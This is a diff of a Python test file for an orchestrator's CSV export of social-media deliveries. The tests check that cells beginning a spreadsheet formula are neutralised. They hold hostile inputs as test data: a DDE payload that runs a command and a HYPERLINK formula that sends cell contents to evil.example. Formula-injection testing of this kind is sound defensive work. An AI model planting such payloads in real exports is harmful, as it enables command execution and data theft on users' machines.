@@ -11,7 +11,7 @@ from sqlmodel import select
 from channels.sandbox import SandboxServer
 from orchestrator import csvsafe, db
 from orchestrator.models import Campaign, Delivery
-from orchestrator.services.exports import deliveries_csv
+from orchestrator.services.plan_io import export_deliveries
 from tests.orchestrator.helpers import add_account, approved_post, schedule
 
 
@@ -24,22 +24,22 @@ def test_cells_that_start_a_formula_are_neutralised_and_others_untouched() -> No
     assert rows == [["'=cmd|' /C calc'!A0", "7", "ok"]]
 
 
-def test_the_deliveries_export_neutralises_texts_and_errors(engine: sa.Engine, sandbox: SandboxServer) -> None:
+def test_the_deliveries_export_neutralises_texts_and_platform_values(engine: sa.Engine, sandbox: SandboxServer) -> None:
     account = add_account(engine, sandbox.url, kind="mastodon")
     post_id = approved_post(engine, text='=HYPERLINK("https://evil.example/?d="&A1,"Cliquez") pour Juan López')
     delivery_id = schedule(engine, post_id, account)
     with db.session_scope(engine) as session:
         delivery = session.get(Delivery, delivery_id)
         assert delivery is not None
-        delivery.last_error = "-1 error: @platform says no"
+        delivery.platform_url = "=cmd|' /C calc'!A0"  # what a hostile platform answer could put there
         campaign = session.exec(select(Campaign).where(Campaign.is_current == sa.true())).first() or \
             session.exec(select(Campaign)).first()
         assert campaign is not None
-        text = deliveries_csv(session, campaign=campaign)
+        text = export_deliveries(session, campaign=campaign)
     header, *rows = list(csv.reader(io.StringIO(text)))
     row = dict(zip(header, rows[0], strict=True))
     assert row["text"].startswith("'=HYPERLINK(")
-    assert row["last_error"] == "'-1 error: @platform says no"
     assert row["delivery_id"] == str(delivery_id)
+    assert row["platform_url"] == "'=cmd|' /C calc'!A0"
     for value in (v for r in rows for v in r):
         assert not value.startswith(csvsafe.FORMULA_STARTS), value
